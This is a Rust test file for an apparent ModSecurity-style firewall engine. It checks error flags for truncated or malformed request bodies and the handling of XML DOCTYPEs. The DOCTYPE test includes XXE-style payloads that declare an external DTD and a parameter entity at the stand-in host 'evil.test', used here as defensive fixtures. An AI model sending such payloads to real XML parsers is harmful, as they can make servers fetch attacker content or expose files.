//! What rules are told of a body that is cut, and of one with a DOCTYPE.

use super::*;

/// A POST whose body is seen up to here; what rules report.
fn cut(rules: &Arc<RuleSet>, kind: &str, body: &[u8]) -> Vec<u32> {
    let bound = Arc::new(Bound::new(rules, &Overlay::default()));
    let mut transaction = Transaction::bound(&bound, &connection(), false);
    transaction.request_line(b"POST", b"/", b"HTTP/1.1");
    transaction.request_header(b"Content-Type", kind.as_bytes());
    transaction.run_request_headers();
    transaction.run_request_body(body, true);
    transaction.finish().matches.iter().map(|found| found.id).collect()
}

#[test]
fn what_is_wrong_in_the_inspected_part_of_a_body_is_an_error_and_that_it_is_cut_is_none() {
    let rules = rules(
        r#"SecRule REQBODY_ERROR "!@eq 0" "id:1,phase:2,pass"
        SecRule REQBODY_PROCESSOR_ERROR "!@eq 0" "id:2,phase:2,pass"
        SecRule MULTIPART_STRICT_ERROR "!@eq 0" "id:3,phase:2,pass"
        SecRule URLENCODED_ERROR "!@eq 0" "id:4,phase:2,pass"
        SecRule INBOUND_DATA_ERROR "@eq 1" "id:5,phase:2,pass""#,
    );
    let multipart = "multipart/form-data; boundary=x";
    let form = "application/x-www-form-urlencoded";
    for (kind, body, ids) in [
        ("application/json", r#"{"a": "b"#, &[5][..]),
        ("application/json", r#"{"a" "b"#, &[1, 2, 5]),
        ("text/xml", "<a><b>x</b", &[5]),
        ("text/xml", "<a><b>x</a><", &[1, 2, 5]),
        (multipart, "--x\r\nContent-Disposition: form-da", &[5]),
        (
            multipart,
            "--x\r\nContent-Disposition: form-data; name=a\r\n\r\nb",
            &[5],
        ),
        (multipart, "--x\r\nContent-Disposition\r\n\r\nb", &[1, 2, 3, 5]),
        (
            multipart,
            "before\r\n--x\r\nContent-Disposition: form-data; name=a\r\n\r\nb",
            &[3, 5],
        ),
        (form, "a=%4", &[5]),
        (form, "a=%", &[5]),
        (form, "a=%zz&b=%4", &[4, 5]),
    ] {
        assert_eq!(cut(&rules, kind, body.as_bytes()), ids, "{body}");
    }
}

#[test]
fn a_doctype_is_shown_to_rules_and_one_that_declares_entities_is_an_error() {
    let rules = rules(
        r#"SecRule REQBODY_PROCESSOR_ERROR "!@eq 0" "id:1,phase:2,pass"
        SecRule REQUEST_BODY "@contains <!DOCTYPE" "id:2,phase:2,pass""#,
    );
    let post = |body| {
        send_with(
            &rules,
            &Overlay::default(),
            false,
            "/",
            &[("Content-Type", "text/xml")],
            body,
        )
        .ids()
    };
    assert_eq!(post("<a/>"), [0_u32; 0]);
    assert_eq!(post("<!DOCTYPE a SYSTEM \"http://evil.test/x.dtd\"><a/>"), [2]);
    assert_eq!(
        post("<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://evil.test/x\"> %x;]><a/>"),
        [1, 2]
    );
}
